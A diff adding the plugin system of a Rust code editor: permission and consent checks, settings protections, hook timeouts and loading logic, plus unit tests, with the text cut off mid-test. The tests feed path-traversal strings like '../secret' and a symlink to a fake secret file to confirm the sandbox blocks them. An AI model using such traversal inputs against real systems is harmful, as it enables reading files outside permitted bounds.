@@ -0,0 +1,948 @@
+use std::{
+    collections::{HashMap, HashSet, VecDeque},
+    io,
+    panic::{self, AssertUnwindSafe},
+    path::{Component, Path, PathBuf},
+    process::Output,
+    sync::mpsc,
+    time::{Duration, Instant},
+};
+
+use fs_err as fs;
+use thiserror::Error;
+
+use crate::{
+    app::Fexc,
+    commands::{parse_shortcut, Command, Commands, KeyBinding},
+    config::Config,
+    document::{Document, DocumentError, Documents, FileEdit},
+    events::{Event, EventBus, EventFilter},
+    notifications::Notifications,
+    process,
+    snippets::{Snippet, Snippets},
+    widgets::terminal::TerminalTabs,
+};
+
+use manifest::{InstalledPlugin, ManifestCommand, PluginManifest};
+use permissions::{ConsentRequest, Permission};
+use reload::HotReload;
+use ui::{PluginView, PluginViews, UiNode, ViewSlot};
+
+pub mod install;
+pub mod manifest;
+pub mod permissions;
+mod reload;
+pub mod script;
+pub mod ui;
+pub mod wasm;
+mod whitespace;
+
+use whitespace::WhitespacePlugin;
+
+/// Version of the plugin API. Plugins written against another version are not loaded.
+pub const API_VERSION: u32 = 1;
+
+/// How many lines of each plugin's log are kept.
+const LOG_LIMIT: usize = 500;
+
+/// Settings that manage plugins, which plugins may not change themselves.
+const PROTECTED_SETTINGS: &[&str] = &["disabled_plugins", "plugin_permissions", "plugin_developer_mode"];
+
+/// Settings that make the editor run programs, which plugins may only change if they may run programs themselves.
+const PROCESS_SETTINGS: &[&str] = &["lsp_command", "formatter", "tasks", "hlint", "watch_mode"];
+
+/// How long plugins may spend on events each frame; the rest wait for the next frame.
+const EVENT_BUDGET: Duration = Duration::from_millis(8);
+
+/// How long a single hook of a sandboxed plugin may run, not counting the time the editor spends on
+/// its calls. A plugin that takes longer is stopped and unloaded, so one hook cannot freeze the UI.
+const HOOK_TIMEOUT: Duration = Duration::from_millis(200);
+
+/// How much memory a plugin's runtime may allocate.
+const MEMORY_LIMIT: usize = 64 << 20;
+
+/// An extension of the editor. Every hook has an empty default, so plugins only implement what they need.
+pub trait Plugin: Send {
+    /// A unique id such as `whitespace`, used to address the plugin's commands.
+    fn id(&self) -> &str;
+
+    /// The [`API_VERSION`] the plugin was written against.
+    fn api_version(&self) -> u32 {
+        API_VERSION
+    }
+
+    fn on_load(&mut self, _cx: &mut PluginContext) {}
+
+    fn on_unload(&mut self, _cx: &mut PluginContext) {}
+
+    fn on_project_open(&mut self, _cx: &mut PluginContext, _root: &Path) {}
+
+    fn on_file_open(&mut self, _cx: &mut PluginContext, _path: &Path) {}
+
+    fn on_save(&mut self, _cx: &mut PluginContext, _path: &Path) {}
+
+    /// Called once per frame for each document whose text changed, with the document's id.
+    fn on_buffer_changed(&mut self, _cx: &mut PluginContext, _doc: u64) {}
+
+    /// Runs a command the plugin registered with [`PluginContext::register_command`].
+    fn run_command(&mut self, _cx: &mut PluginContext, _command: &str) {}
+
+    /// Called when a button with `action` is clicked in the view `view` the plugin registered.
+    fn on_ui_action(&mut self, _cx: &mut PluginContext, _view: &str, _action: &str) {}
+
+    /// Called for every event matching a filter passed to [`PluginContext::subscribe`].
+    fn on_event(&mut self, _cx: &mut PluginContext, _event: &Event) {}
+
+    /// Why the plugin stopped working during the last hook, e.g. a trap in a WebAssembly plugin.
+    /// A plugin that reports a crash is unloaded.
+    fn crashed(&mut self) -> Option<String> {
+        None
+    }
+}
+
+#[derive(Debug, Error)]
+pub enum PluginError {
+    #[error("The plugin does not declare the {0:?} permission in its manifest")]
+    NotDeclared(Permission),
+    #[error("The {0:?} permission has not been granted")]
+    NotGranted(Permission),
+    #[error("{0}")]
+    Document(DocumentError),
+    #[error("Failed to run process: {0}")]
+    Process(io::Error),
+    #[error("No terminal is running")]
+    NoTerminal,
+    #[error("Invalid settings: {0}")]
+    Settings(String),
+    #[error("{0} is outside of the project")]
+    OutsideProject(PathBuf),
+}
+
+/// What a plugin hook may access of the editor. Methods that need a permission check it
+/// and ask the user for sensitive ones, failing until the user has granted them.
+pub struct PluginContext<'a> {
+    plugin: &'a str,
+    /// The permissions from the manifest, or `None` for the trusted built-in plugins.
+    declared: Option<&'a [Permission]>,
+    /// The open project, the only place sandboxed plugins may access files in.
+    root: Option<&'a Path>,
+    documents: &'a mut Documents,
+    notifications: &'a mut Notifications,
+    config: &'a mut Config,
+    terminals: &'a mut TerminalTabs,
+    commands: &'a mut Commands,
+    views: &'a mut PluginViews,
+    subscriptions: &'a mut Vec<EventFilter>,
+    consent: &'a mut Vec<ConsentRequest>,
+    denied: &'a HashSet<(String, Permission)>,
+    log: &'a mut Vec<String>,
+    events: &'a mut EventBus,
+    snippets: &'a mut Snippets,
+}
+
+impl PluginContext<'_> {
+    pub fn active_document(&mut self) -> Result<&Document, PluginError> {
+        self.require(Permission::ReadFiles)?;
+        let doc = self.documents.active();
+        self.check_document(doc)?;
+        Ok(doc)
+    }
+
+    pub fn document(&mut self, id: u64) -> Result<Option<&Document>, PluginError> {
+        self.require(Permission::ReadFiles)?;
+        let Some(doc) = self.documents.get(id) else { return Ok(None) };
+        self.check_document(doc)?;
+        Ok(Some(doc))
+    }
+
+    pub fn config(&self) -> &Config {
+        self.config
+    }
+
+    /// The root of the open project, if any.
+    pub fn project_root(&self) -> Option<&Path> {
+        self.root
+    }
+
+    /// Checks that the plugin may use `permission`, queueing a prompt if the user has not been asked yet.
+    fn require(&mut self, permission: Permission) -> Result<(), PluginError> {
+        let Some(declared) = self.declared else { return Ok(()) };
+
+        if !declared.contains(&permission) {
+            return Err(PluginError::NotDeclared(permission));
+        }
+
+        let granted = !permission.is_sensitive()
+            || self.config.plugin_permissions.get(self.plugin).is_some_and(|p| p.contains(&permission));
+        if granted {
+            return Ok(());
+        }
+
+        let request = ConsentRequest { plugin: self.plugin.to_owned(), permission };
+        if !self.denied.contains(&(request.plugin.clone(), permission)) && !self.consent.contains(&request) {
+            self.consent.push(request);
+        }
+
+        Err(PluginError::NotGranted(permission))
+    }
+
+    /// Resolves `path` against the project, failing for sandboxed plugins if it leads outside of it.
+    fn project_path(&self, path: &Path) -> Result<PathBuf, PluginError> {
+        let outside = || PluginError::OutsideProject(path.to_owned());
+        let Some(root) = self.root else {
+            return if self.declared.is_none() { Ok(path.to_owned()) } else { Err(outside()) };
+        };
+
+        // Links are followed, so a link in the project cannot lead a plugin out of it
+        let joined = root.join(path);
+        let resolved = fs::canonicalize(&joined).unwrap_or_else(|_| normalize(&joined));
+        let root = fs::canonicalize(root).unwrap_or_else(|_| root.to_owned());
+
+        if self.declared.is_none() || resolved.starts_with(root) { Ok(resolved) } else { Err(outside()) }
+    }
+
+    /// Fails for sandboxed plugins if `doc` is a file outside of the project; untitled buffers are allowed.
+    fn check_document(&self, doc: &Document) -> Result<(), PluginError> {
+        match &doc.path {
+            Some(path) => self.project_path(path).map(|_| ()),
+            None => Ok(()),
+        }
+    }
+
+    /// The text of `path`, from its open buffer if there is one.
+    pub fn read(&mut self, path: &Path) -> Result<String, PluginError> {
+        self.require(Permission::ReadFiles)?;
+        let path = self.project_path(path)?;
+        self.documents.contents(&path).map_err(PluginError::Document)
+    }
+
+    pub fn open(&mut self, path: &Path) -> Result<(), PluginError> {
+        self.require(Permission::ReadFiles)?;
+        let path = self.project_path(path)?;
+        self.documents.open(&path).map(|_| ()).map_err(PluginError::Document)
+    }
+
+    /// Replaces the text of an open document as an undoable step.
+    pub fn edit(&mut self, doc: u64, new_text: String) -> Result<(), PluginError> {
+        self.require(Permission::WriteFiles)?;
+
+        if let Some(existing) = self.documents.get(doc) {
+            self.check_document(existing)?;
+        }
+
+        if let Some(doc) = self.documents.get_mut(doc) {
+            doc.replace_preserving_cursor(new_text);
+        }
+
+        Ok(())
+    }
+
+    /// Replaces the text of `path`, in its open buffer or on disk.
+    pub fn edit_file(&mut self, path: &Path, new_text: String) -> Result<(), PluginError> {
+        self.require(Permission::WriteFiles)?;
+        let path = self.project_path(path)?;
+
+        let old_text = self.documents.contents(&path).map_err(PluginError::Document)?;
+        self.documents.apply(vec![FileEdit { path, old_text, new_text }])
+            .map_err(PluginError::Document)
+    }
+
+    /// Runs a program to completion, feeding `input` to its stdin.
+    pub fn run_process(&mut self, program: &str, args: &[&str], input: String, cwd: Option<&Path>) -> Result<Output, PluginError> {
+        self.require(Permission::SpawnProcesses)?;
+        process::pipe(program, args, input, cwd).map_err(PluginError::Process)
+    }
+
+    /// Types `text` into the active terminal.
+    pub fn write_to_terminal(&mut self, text: &str) -> Result<(), PluginError> {
+        self.require(Permission::Terminal)?;
+
+        let active = self.terminals.active;
+        let written = self.terminals.tabs.get_mut(active).is_some_and(|tab| tab.write(text.as_bytes()));
+
+        if written { Ok(()) } else { Err(PluginError::NoTerminal) }
+    }
+
+    /// Changes the settings and saves them.
+    pub fn update_config(&mut self, update: impl FnOnce(&mut Config)) -> Result<(), PluginError> {
+        self.require(Permission::Settings)?;
+
+        update(self.config);
+        self.config.save().unwrap_or_else(|e| {
+            log::error!("{e}");
+        });
+        self.events.config_changed(self.config);
+
+        Ok(())
+    }
+
+    /// Merges a TOML table into the settings and saves them, for plugins that cannot pass a closure.
+    pub fn update_settings(&mut self, patch: &str) -> Result<(), PluginError> {
+        self.require(Permission::Settings)?;
+
+        let patch = patch.parse::<toml::Table>()
+            .map_err(|e| PluginError::Settings(e.to_string()))?;
+
+        if let Some(key) = patch.keys().find(|key| PROTECTED_SETTINGS.contains(&key.as_str())) {
+            return Err(PluginError::Settings(format!("`{key}` cannot be changed by plugins")));
+        }
+
+        if patch.keys().any(|key| PROCESS_SETTINGS.contains(&key.as_str())) {
+            self.require(Permission::SpawnProcesses)?;
+        }
+
+        let mut settings = toml::Table::try_from(&*self.config)
+            .map_err(|e| PluginError::Settings(e.to_string()))?;
+        settings.extend(patch);
+
+        let config = toml::Value::Table(settings).try_into::<Config>()
+            .map_err(|e| PluginError::Settings(e.to_string()))?;
+
+        self.update_config(|old| *old = config)
+    }
+
+    pub fn info(&mut self, message: impl Into<String>) {
+        let message = message.into();
+        self.log(&message);
+        self.notifications.info(format!("{}: {message}", self.plugin));
+    }
+
+    pub fn error(&mut self, message: impl Into<String>) {
+        let message = message.into();
+        self.log(&message);
+        self.notifications.error(format!("{}: {message}", self.plugin));
+    }
+
+    /// Adds a line to the plugin's log on the Plugins page without notifying the user.
+    pub fn log(&mut self, message: &str) {
+        push_log(self.log, message);
+    }
+
+    /// Adds a command to the command palette and the Plugins menu, optionally run by a keyboard
+    /// shortcut; it is passed back to [`Plugin::run_command`].
+    pub fn register_command(&mut self, id: &str, title: &str, shortcut: Option<egui::KeyboardShortcut>) {
+        self.commands.register(Command::plugin(self.plugin, id, title, shortcut));
+    }
+
+    /// Binds a keyboard shortcut to a command of the editor or of any plugin.
+    pub fn bind_key(&mut self, shortcut: egui::KeyboardShortcut, command: &str) {
+        self.commands.bind(KeyBinding { plugin: self.plugin.to_owned(), shortcut, command: command.to_owned() });
+    }
+
+    /// Adds a snippet that is inserted by typing `prefix` and pressing Tab. `$0` in `body` marks
+    /// where the cursor goes.
+    pub fn register_snippet(&mut self, prefix: &str, body: &str) {
+        self.snippets.register(Snippet { plugin: self.plugin.to_owned(), prefix: prefix.to_owned(), body: body.to_owned() });
+    }
+
+    /// Shows a view in `slot`, or updates the view with the same `id`.
+    pub fn set_view(&mut self, slot: ViewSlot, id: &str, icon: &str, title: &str, content: UiNode) {
+        self.views.set(PluginView {
+            key: 0,
+            plugin: self.plugin.to_owned(),
+            id: id.to_owned(),
+            slot,
+            icon: icon.to_owned(),
+            title: title.to_owned(),
+            content,
+        });
+    }
+
+    pub fn remove_view(&mut self, id: &str) {
+        self.views.remove(self.plugin, id);
+    }
+
+    /// Starts passing the events matching `filter` to [`Plugin::on_event`].
+    pub fn subscribe(&mut self, filter: EventFilter) {
+        if !self.subscriptions.contains(&filter) {
+            self.subscriptions.push(filter);
+        }
+    }
+}
+
+/// Resolves `.` and `..` in a path without touching the file system.
+fn normalize(path: &Path) -> PathBuf {
+    let mut normal = PathBuf::new();
+
+    for component in path.components() {
+        match component {
+            Component::CurDir => {}
+            Component::ParentDir => {
+                normal.pop();
+            }
+            component => normal.push(component),
+        }
+    }
+
+    normal
+}
+
+/// A plugin without code, e.g. one that only contributes configuration through its manifest.
+struct ManifestPlugin(PluginManifest);
+
+impl Plugin for ManifestPlugin {
+    fn id(&self) -> &str {
+        &self.0.name
+    }
+
+    fn on_load(&mut self, cx: &mut PluginContext) {
+        for view in &self.0.views {
+            cx.set_view(view.slot, &view.id, &view.icon, &view.title, view.content.clone());
+        }
+    }
+}
+
+/// The plugins that ship with the editor.
+fn builtin_plugins() -> Vec<Box<dyn Plugin>> {
+    vec![Box::new(WhitespacePlugin)]
+}
+
+fn push_log(log: &mut Vec<String>, message: &str) {
+    log.extend(message.lines().map(str::to_owned));
+    if log.len() > LOG_LIMIT {
+        log.drain(..log.len() - LOG_LIMIT);
+    }
+}
+
+struct LoadedPlugin {
+    plugin: Box<dyn Plugin>,
+    /// The permissions from the manifest, or `None` for built-in plugins.
+    permissions: Option<Vec<Permission>>,
+    subscriptions: Vec<EventFilter>,
+}
+
+/// The loaded plugins and what they have been told about the open documents.
+#[derive(Default)]
+pub struct Plugins {
+    loaded: Vec<LoadedPlugin>,
+    pub views: PluginViews,
+    /// The plugins' subscription to the event bus.
+    events: Option<mpsc::Receiver<Event>>,
+    /// Events received from the bus that have not been delivered yet.
+    pending: VecDeque<Event>,
+    /// Ids of the built-in plugins.
+    pub builtin: Vec<String>,
+    pub installed: Vec<InstalledPlugin>,
+    /// The user's init script, if there is one.
+    pub init_script: Option<PathBuf>,
+    reload: Option<HotReload>,
+    /// Why a plugin is not running, for those that failed to load or crashed.
+    pub errors: HashMap<String, String>,
+    pub logs: HashMap<String, Vec<String>>,
+    /// Permission prompts waiting for the user, the first one is shown.
+    pub consent: Vec<ConsentRequest>,
+    /// Permissions the user refused in this session, so they are not asked for again.
+    pub denied: HashSet<(String, Permission)>,
+}
+
+impl Plugins {
+    pub fn iter(&self) -> impl Iterator<Item = &dyn Plugin> {
+        self.loaded.iter().map(|p| p.plugin.as_ref())
+    }
+
+    pub fn is_loaded(&self, id: &str) -> bool {
+        self.iter().any(|p| p.id() == id)
+    }
+}
+
+impl Fexc {
+    /// Calls a hook on every plugin, or on the one with the id `only`.
+    /// A plugin that panics is dropped instead of taking the editor down with it.
+    fn plugin_hook(&mut self, only: Option<&str>, mut hook: impl FnMut(&mut dyn Plugin, &mut PluginContext)) {
+        let mut crashed = vec![];
+
+        for LoadedPlugin { plugin, permissions, subscriptions } in &mut self.plugins.loaded {
+            if only.is_some_and(|id| id != plugin.id()) {
+                continue;
+            }
+
+            let id = plugin.id().to_owned();
+            let mut cx = PluginContext {
+                plugin: &id,
+                declared: permissions.as_deref(),
+                root: self.current_project.as_deref(),
+                documents: &mut self.documents,
+                notifications: &mut self.notifications,
+                config: &mut self.config,
+                terminals: &mut self.terminals,
+                commands: &mut self.commands,
+                views: &mut self.plugins.views,
+                subscriptions,
+                consent: &mut self.plugins.consent,
+                denied: &self.plugins.denied,
+                log: self.plugins.logs.entry(id.clone()).or_default(),
+                events: &mut self.events,
+                snippets: &mut self.snippets,
+            };
+
+            if panic::catch_unwind(AssertUnwindSafe(|| hook(plugin.as_mut(), &mut cx))).is_err() {
+                crashed.push((id, "the plugin crashed and was unloaded".to_owned()));
+            } else if let Some(reason) = plugin.crashed() {
+                crashed.push((id, format!("{reason}, the plugin was unloaded")));
+            }
+        }
+
+        for (id, reason) in crashed {
+            self.plugins.loaded.retain(|p| p.plugin.id() != id);
+            self.commands.remove_plugin(&id);
+            self.plugins.views.remove_plugin(&id);
+            self.languages.remove_plugin(&id);
+            self.plugin_failed(&id, reason);
+        }
+    }
+
+    fn plugin_failed(&mut self, id: &str, error: String) {
+        self.notifications.error(format!("{id}: {error}"));
+        push_log(self.plugins.logs.entry(id.to_owned()).or_default(), &error);
+        self.plugins.errors.insert(id.to_owned(), error);
+    }
+
+    pub fn is_plugin_enabled(&self, id: &str) -> bool {
+        !self.config.disabled_plugins.iter().any(|p| p == id)
+    }
+
+    /// Loads the built-in plugins and those in the plugins directory, except for the disabled ones.
+    pub fn load_plugins(&mut self) {
+        self.plugins.events = Some(self.events.subscribe(EventFilter::default()));
+
+        for plugin in builtin_plugins() {
+            self.plugins.builtin.push(plugin.id().to_owned());
+            if self.is_plugin_enabled(plugin.id()) {
+                self.load_plugin(plugin, None);
+            }
+        }
+
+        self.plugins.installed = install::discover();
+        let ids = self.plugins.installed.iter().map(InstalledPlugin::id).collect::<Vec<_>>();
+        for id in ids {
+            self.load_installed_plugin(&id);
+        }
+
+        self.plugins.init_script = script::init_script_path().filter(|path| path.is_file());
+        self.load_init_script();
+    }
+
+    fn load_init_script(&mut self) {
+        let Some(path) = self.plugins.init_script.clone() else { return };
+        if !self.is_plugin_enabled(script::INIT_SCRIPT_ID) {
+            return;
+        }
+
+        match script::load(&path) {
+            Ok(plugin) => self.load_plugin(plugin, None),
+            Err(e) => self.plugin_failed(script::INIT_SCRIPT_ID, e.to_string()),
+        }
+    }
+
+    fn load_installed_plugin(&mut self, id: &str) {
+        let Some(installed) = self.plugins.installed.iter().find(|p| p.id() == id) else { return };
+        if !self.is_plugin_enabled(id) {
+            return;
+        }
+
+        let manifest = match &installed.manifest {
+            Ok(manifest) => manifest.clone(),
+            Err(e) => return self.plugin_failed(id, e.clone()),
+        };
+
+        if let Some(e) = manifest.compatibility_error() {
+            return self.plugin_failed(id, e);
+        }
+
+        let dir = installed.path.clone();
+        let code = installed.code();
+        let permissions = manifest.permissions.clone();
+        let languages = manifest.languages.clone();
+        let commands = manifest.commands.clone();
+        let plugin = if code.is_file() {
+            match wasm::load(id, &code) {
+                Ok(plugin) => plugin,
+                Err(e) => return self.plugin_failed(id, e.to_string()),
+            }
+        } else {
+            Box::new(ManifestPlugin(manifest))
+        };
+
+        self.load_plugin(plugin, Some(permissions));
+
+        if self.plugins.is_loaded(id) {
+            self.register_manifest_commands(id, commands);
+
+            for error in self.languages.add_plugin(id, &dir, &languages) {
+                self.notifications.error(format!("{id}: {error}"));
+                push_log(self.plugins.logs.entry(id.to_owned()).or_default(), &error);
+            }
+        }
+    }
+
+    /// Adds the commands listed in a plugin's manifest that the plugin did not register itself on load.
+    fn register_manifest_commands(&mut self, id: &str, commands: Vec<ManifestCommand>) {
+        for command in commands {
+            let shortcut = command.shortcut.as_deref().and_then(parse_shortcut);
+            if let Some(text) = command.shortcut.as_deref().filter(|_| shortcut.is_none()) {
+                let error = format!("Invalid shortcut {text:?} for command {}", command.id);
+                self.notifications.error(format!("{id}: {error}"));
+                push_log(self.plugins.logs.entry(id.to_owned()).or_default(), &error);
+            }
+
+            let command = Command::plugin(id, &command.id, &command.title, shortcut);
+            if !self.commands.iter().any(|c| c.id == command.id) {
+                self.commands.register(command);
+            }
+        }
+    }
+
+    /// Loads or unloads a plugin and remembers the choice in the config.
+    pub fn set_plugin_enabled(&mut self, id: &str, enabled: bool) {
+        self.config.disabled_plugins.retain(|p| p != id);
+
+        if enabled {
+            match builtin_plugins().into_iter().find(|p| p.id() == id) {
+                Some(plugin) => self.load_plugin(plugin, None),
+                None if id == script::INIT_SCRIPT_ID => self.load_init_script(),
+                None => self.load_installed_plugin(id),
+            }
+        } else {
+            self.config.disabled_plugins.push(id.to_owned());
+            self.unload_plugin(id);
+            self.plugins.errors.remove(id);
+        }
+
+        self.save_config();
+    }
+
+    /// Copies a plugin folder into the plugins directory and loads it.
+    pub fn install_plugin(&mut self, source: &Path) {
+        match install::install(source) {
+            Ok(manifest) => {
+                self.notifications.info(format!("{} {}", self.i18n("plugin_installed"), manifest.name));
+                self.plugins.installed = install::discover();
+                self.load_installed_plugin(&manifest.name);
+            }
+            Err(e) => self.notifications.error(e.to_string()),
+        }
+    }
+
+    pub fn uninstall_plugin(&mut self, id: &str) {
+        let Some(path) = self.plugins.installed.iter().find(|p| p.id() == id).map(|p| p.path.clone()) else { return };
+
+        self.unload_plugin(id);
+
+        match install::uninstall(&path) {
+            Ok(()) => {
+                self.plugins.errors.remove(id);
+                self.plugins.logs.remove(id);
+                self.config.disabled_plugins.retain(|p| p != id);
+                self.config.plugin_permissions.remove(id);
+                self.save_config();
+                self.plugins.installed = install::discover();
+            }
+            Err(e) => self.notifications.error(e.to_string()),
+        }
+    }
+
+    /// Answers the permission prompt for `request`, remembering a grant in the config.
+    pub fn answer_consent(&mut self, request: &ConsentRequest, granted: bool) {
+        self.plugins.consent.retain(|r| r != request);
+
+        if granted {
+            let permissions = self.config.plugin_permissions.entry(request.plugin.clone()).or_default();
+            if !permissions.contains(&request.permission) {
+                permissions.push(request.permission);
+                permissions.sort();
+            }
+
+            self.save_config();
+        } else {
+            self.plugins.denied.insert((request.plugin.clone(), request.permission));
+        }
+    }
+
+    /// Takes back a granted permission; the plugin has to ask again the next time it needs it.
+    pub fn revoke_permission(&mut self, plugin: &str, permission: Permission) {
+        if let Some(permissions) = self.config.plugin_permissions.get_mut(plugin) {
+            permissions.retain(|p| *p != permission);
+            if permissions.is_empty() {
+                self.config.plugin_permissions.remove(plugin);
+            }
+        }
+
+        self.plugins.denied.remove(&(plugin.to_owned(), permission));
+        self.save_config();
+    }
+
+    /// Loads a plugin that may use the given permissions, or any for `None`.
+    pub fn load_plugin(&mut self, plugin: Box<dyn Plugin>, permissions: Option<Vec<Permission>>) {
+        let id = plugin.id().to_owned();
+
+        if plugin.api_version() != API_VERSION {
+            self.plugin_failed(&id, format!("plugin API version {} is not supported, expected {API_VERSION}", plugin.api_version()));
+            return;
+        }
+
+        if self.plugins.iter().any(|p| p.id() == id) {
+            self.unload_plugin(&id);
+        }
+
+        self.plugins.errors.remove(&id);
+        self.plugins.loaded.push(LoadedPlugin { plugin, permissions, subscriptions: vec![] });
+        self.plugin_hook(Some(&id), |plugin, cx| plugin.on_load(cx));
+
+        if let Some(root) = self.current_project.clone() {
+            self.plugin_hook(Some(&id), |plugin, cx| plugin.on_project_open(cx, &root));
+        }
+    }
+
+    /// Calls `on_unload` and drops the plugin along with its commands.
+    pub fn unload_plugin(&mut self, id: &str) {
+        self.plugin_hook(Some(id), |plugin, cx| plugin.on_unload(cx));
+        self.plugins.loaded.retain(|p| p.plugin.id() != id);
+        self.commands.remove_plugin(id);
+        self.snippets.remove_plugin(id);
+        self.plugins.views.remove_plugin(id);
+        self.plugins.consent.retain(|r| r.plugin != id);
+        self.languages.remove_plugin(id);
+    }
+
+    pub fn unload_plugins(&mut self) {
+        let ids = self.plugins.iter().map(|p| p.id().to_owned()).collect::<Vec<_>>();
+        for id in ids {
+            self.unload_plugin(&id);
+        }
+    }
+
+    pub fn run_plugin_command(&mut self, plugin: &str, command: &str) {
+        self.plugin_hook(Some(plugin), |plugin, cx| plugin.run_command(cx, command));
+    }
+
+    /// Passes a click in a plugin view to the plugin that owns it.
+    pub fn plugin_ui_action(&mut self, key: u64, action: &str) {
+        let Some(view) = self.plugins.views.get(key) else { return };
+        let (plugin, view) = (view.plugin.clone(), view.id.clone());
+
+        self.plugin_hook(Some(&plugin), |plugin, cx| plugin.on_ui_action(cx, &view, action));
+    }
+
+    /// Delivers the events published since the last frame, within [`EVENT_BUDGET`] so that
+    /// slow plugins delay their own events rather than the UI. The budget is only checked between
+    /// hooks, a single hook is limited by [`HOOK_TIMEOUT`] instead.
+    pub fn update_plugins(&mut self, ctx: &egui::Context) {
+        if let Some(events) = &self.plugins.events {
+            self.plugins.pending.extend(events.try_iter());
+        }
+
+        let start = Instant::now();
+        while start.elapsed() < EVENT_BUDGET {
+            let Some(event) = self.plugins.pending.pop_front() else { return };
+            self.plugins_event(&event);
+        }
+
+        if !self.plugins.pending.is_empty() {
+            ctx.request_repaint();
+        }
+    }
+
+    fn plugins_event(&mut self, event: &Event) {
+        match event {
+            Event::DocumentOpened { path: Some(path), .. } => {
+                self.plugin_hook(None, |plugin, cx| plugin.on_file_open(cx, path));
+            }
+            Event::DocumentChanged { doc, .. } => {
+                self.plugin_hook(None, |plugin, cx| plugin.on_buffer_changed(cx, *doc));
+            }
+            Event::DocumentSaved { path } => {
+                self.plugin_hook(None, |plugin, cx| plugin.on_save(cx, path));
+            }
+            Event::ProjectOpened { root } => {
+                self.plugin_hook(None, |plugin, cx| plugin.on_project_open(cx, root));
+            }
+            _ => {}
+        }
+
+        let root = self.current_project.clone();
+        let subscribers = self.plugins.loaded.iter()
+            .filter(|p| p.subscriptions.iter().any(|f| f.matches(event, root.as_deref())))
+            .map(|p| p.plugin.id().to_owned())
+            .collect::<Vec<_>>();
+
+        for id in subscribers {
+            self.plugin_hook(Some(&id), |plugin, cx| plugin.on_event(cx, event));
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// The parts of the editor a [`PluginContext`] borrows, for calling hooks without an app.
+    #[derive(Default)]
+    pub(super) struct TestEditor {
+        pub documents: Documents,
+        pub notifications: Notifications,
+        pub config: Config,
+        pub terminals: TerminalTabs,
+        pub commands: Commands,
+        pub views: PluginViews,
+        pub subscriptions: Vec<EventFilter>,
+        pub consent: Vec<ConsentRequest>,
+        pub denied: HashSet<(String, Permission)>,
+        pub log: Vec<String>,
+        pub root: Option<PathBuf>,
+        pub events: EventBus,
+        pub snippets: Snippets,
+    }
+
+    impl TestEditor {
+        pub fn context<'a>(&'a mut self, plugin: &'a str, declared: Option<&'a [Permission]>) -> PluginContext<'a> {
+            PluginContext {
+                plugin,
+                declared,
+                root: self.root.as_deref(),
+                documents: &mut self.documents,
+                notifications: &mut self.notifications,
+                config: &mut self.config,
+                terminals: &mut self.terminals,
+                commands: &mut self.commands,
+                views: &mut self.views,
+                subscriptions: &mut self.subscriptions,
+                consent: &mut self.consent,
+                denied: &self.denied,
+                log: &mut self.log,
+                events: &mut self.events,
+                snippets: &mut self.snippets,
+            }
+        }
+    }
+
+    #[test]
+    fn undeclared_permissions_are_refused() {
+        let mut editor = TestEditor::default();
+        let mut cx = editor.context("lint", Some(&[]));
+
+        assert!(matches!(cx.require(Permission::ReadFiles), Err(PluginError::NotDeclared(Permission::ReadFiles))));
+        assert!(matches!(cx.active_document(), Err(PluginError::NotDeclared(_))));
+        assert!(matches!(cx.document(0), Err(PluginError::NotDeclared(_))));
+        assert!(editor.consent.is_empty());
+    }
+
+    #[test]
+    fn reading_is_granted_when_declared() {
+        let mut editor = TestEditor::default();
+        let mut cx = editor.context("lint", Some(&[Permission::ReadFiles]));
+
+        assert!(cx.require(Permission::ReadFiles).is_ok());
+        assert!(cx.active_document().is_ok());
+        assert!(editor.consent.is_empty());
+    }
+
+    #[test]
+    fn sensitive_permissions_prompt_once() {
+        let mut editor = TestEditor::default();
+        let mut cx = editor.context("lint", Some(&[Permission::SpawnProcesses]));
+
+        assert!(matches!(cx.require(Permission::SpawnProcesses), Err(PluginError::NotGranted(_))));
+        assert!(matches!(cx.require(Permission::SpawnProcesses), Err(PluginError::NotGranted(_))));
+        assert_eq!(
+            editor.consent,
+            [ConsentRequest { plugin: "lint".into(), permission: Permission::SpawnProcesses }]
+        );
+    }
+
+    #[test]
+    fn granted_permissions_are_allowed() {
+        let mut editor = TestEditor::default();
+        editor.config.plugin_permissions.insert("lint".into(), vec![Permission::SpawnProcesses]);
+        let mut cx = editor.context("lint", Some(&[Permission::SpawnProcesses]));
+
+        assert!(cx.require(Permission::SpawnProcesses).is_ok());
+        assert!(editor.consent.is_empty());
+    }
+
+    #[test]
+    fn denied_permissions_do_not_prompt_again() {
+        let mut editor = TestEditor::default();
+        editor.denied.insert(("lint".into(), Permission::Terminal));
+        let mut cx = editor.context("lint", Some(&[Permission::Terminal]));
+
+        assert!(matches!(cx.require(Permission::Terminal), Err(PluginError::NotGranted(_))));
+        assert!(editor.consent.is_empty());
+    }
+
+    #[test]
+    fn built_in_plugins_are_trusted() {
+        let mut editor = TestEditor::default();
+        let mut cx = editor.context("whitespace", None);
+
+        assert!(cx.require(Permission::Settings).is_ok());
+        assert!(cx.active_document().is_ok());
+    }
+
+    #[test]
+    fn files_are_limited_to_the_project() {
+        let dir = std::env::temp_dir().join(format!("fexc-plugin-{}", std::process::id()));
+        let root = dir.join("project");
+        fs::create_dir_all(root.join("src")).unwrap();
+        fs::write(root.join("src/Main.hs"), "main = pure ()").unwrap();
+        fs::write(dir.join("secret"), "hunter2").unwrap();
+
+        let mut editor = TestEditor { root: Some(root.clone()), ..Default::default() };
+        let mut cx = editor.context("lint", Some(&[Permission::ReadFiles]));
+
+        assert_eq!(cx.read(Path::new("src/Main.hs")).unwrap(), "main = pure ()");
+        assert_eq!(cx.read(&root.join("src/../src/Main.hs")).unwrap(), "main = pure ()");
+        assert!(matches!(cx.read(Path::new("../secret")), Err(PluginError::OutsideProject(_))));
+        assert!(matches!(cx.read(Path::new("src/../../missing")), Err(PluginError::OutsideProject(_))));
+        assert!(matches!(cx.read(&dir.join("secret")), Err(PluginError::OutsideProject(_))));
+        assert!(matches!(cx.open(&dir.join("secret")), Err(PluginError::OutsideProject(_))));
+
+        #[cfg(unix)]
+        {
+            fs_err::os::unix::fs::symlink(dir.join("secret"), root.join("link")).unwrap();
+            assert!(matches!(cx.read(Path::new("link")), Err(PluginError::OutsideProject(_))));
+        }
+
+        let mut editor = TestEditor::default();
+        let mut cx = editor.context("lint", Some(&[Permission::ReadFiles]));
+        assert!(matches!(cx.read(&root.join("src/Main.hs")), Err(PluginError::OutsideProject(_))));
+
+        fs::remove_dir_all(&dir).unwrap();
+    }
+
+    #[test]
+    fn open_buffers_are_limited_to_the_project() {
+        let dir = std::env::temp_dir().join(format!("fexc-plugin-buffers-{}", std::process::id()));
+        let root = dir.join("project");
+        fs::create_dir_all(&root).unwrap();
